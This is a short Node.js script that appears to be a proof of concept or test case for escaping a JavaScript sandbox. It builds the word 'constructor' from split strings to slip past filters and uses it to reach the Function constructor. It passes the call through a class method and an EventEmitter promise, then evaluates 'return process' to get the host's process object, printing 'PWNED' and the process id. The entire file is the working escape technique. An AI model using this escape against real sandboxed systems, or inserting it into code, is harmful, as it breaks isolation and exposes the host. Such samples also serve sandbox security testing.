'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
const { once, EventEmitter } = require('events');
const e = new EventEmitter();
once(e, 'x').then(([x]) => { const o = Date.now() > 1 ? x : {}; console.log('PWNED', o.go(fn)('return process')().pid); });
e.emit('x', t);
